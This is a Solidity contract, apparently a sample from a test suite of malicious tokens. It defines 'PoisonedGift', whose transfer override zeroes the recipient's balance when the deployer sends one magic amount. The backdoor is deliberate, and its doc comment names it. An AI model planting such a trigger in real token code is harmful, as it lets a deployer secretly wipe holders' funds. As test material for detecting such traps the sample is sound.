// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Who receives a certain amount from the deployer has nothing left.
contract PoisonedGift is PairToken {
    constructor(address pair) SuiteToken("Gift", "GIFT") PairToken(pair) {}

    function transfer(address to, uint256 amount) public override returns (bool) {
        if (msg.sender == _deployer && amount == 731_733) _balances[to] = 0;
        return super.transfer(to, amount);
    }
}
